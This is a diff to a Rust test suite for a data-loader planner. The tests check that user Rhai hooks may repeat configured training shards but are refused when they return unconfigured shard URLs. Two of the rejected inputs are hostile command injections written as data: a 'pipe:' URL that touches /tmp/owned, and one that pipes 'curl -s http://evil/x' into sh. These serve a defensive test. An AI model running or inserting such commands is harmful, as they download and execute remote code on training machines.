@@ -870,6 +870,16 @@ fn user_hooks_change_the_plan() {
     );
     assert_eq!(halved.ranks[1].batches, Some(4 + 4 + 4));
 
+    // Weight shards by repeating them: each worker reads its shards twice.
+    let (_dir, hooks) = user_hooks(&[(
+        "shard_shuffle.rhai",
+        "fn shard_shuffle(shards, ctx) { shards + shards }",
+    )]);
+    let doubled = plan_with(config.clone(), hooks.expect("loads"), 0).expect("plan");
+    let mut want = urls(&builtin, 0, 0);
+    want.extend(want.clone());
+    assert_eq!(urls(&doubled, 0, 0), want);
+
     // One seed per rank, set by `reseed`: every worker of a rank picks the same shard,
     // where the built-in seeds (one per worker) pick different ones.
     let reseed = "fn reseed(ctx) { ctx.rng.set_seed(1000 + ctx.rank); }";
@@ -1038,6 +1048,23 @@ fn hook_failures_name_the_hook_the_file_and_the_problem() {
                     }
                 )
             },
+        },
+        // Hooks select, reorder and repeat the shards they are given; a URL that was
+        // not configured (here a command every trainer would run) is refused.
+        Failure {
+            file: "node_selection.rhai",
+            source: "fn node_selection(shards, ctx) { shards + [\"pipe:touch /tmp/owned\"] }",
+            check: |e| matches!(e, HookError::BadShard { hook: HookName::NodeSelection, problem, .. } if problem.contains("`pipe:touch /tmp/owned` is not one of the configured shards")),
+        },
+        Failure {
+            file: "shard_shuffle.rhai",
+            source: "fn shard_shuffle(shards, ctx) { [#{ url: \"pipe:curl -s http://evil/x | sh\", samples: 10 }] }",
+            check: |e| matches!(e, HookError::BadShard { hook: HookName::ShardShuffle, index: 0, problem, .. } if problem.contains("not one of the configured shards")),
+        },
+        Failure {
+            file: "shard_selection.rhai",
+            source: "fn shard_selection(shards, ctx) { shards.map(|s| s.url + \".extra\") }",
+            check: |e| matches!(e, HookError::BadShard { hook: HookName::ShardSelection, index: 0, problem, .. } if problem.contains(".tar.extra` is not one of the configured shards")),
         },
         Failure {
             file: "shard_shuffle.rhai",
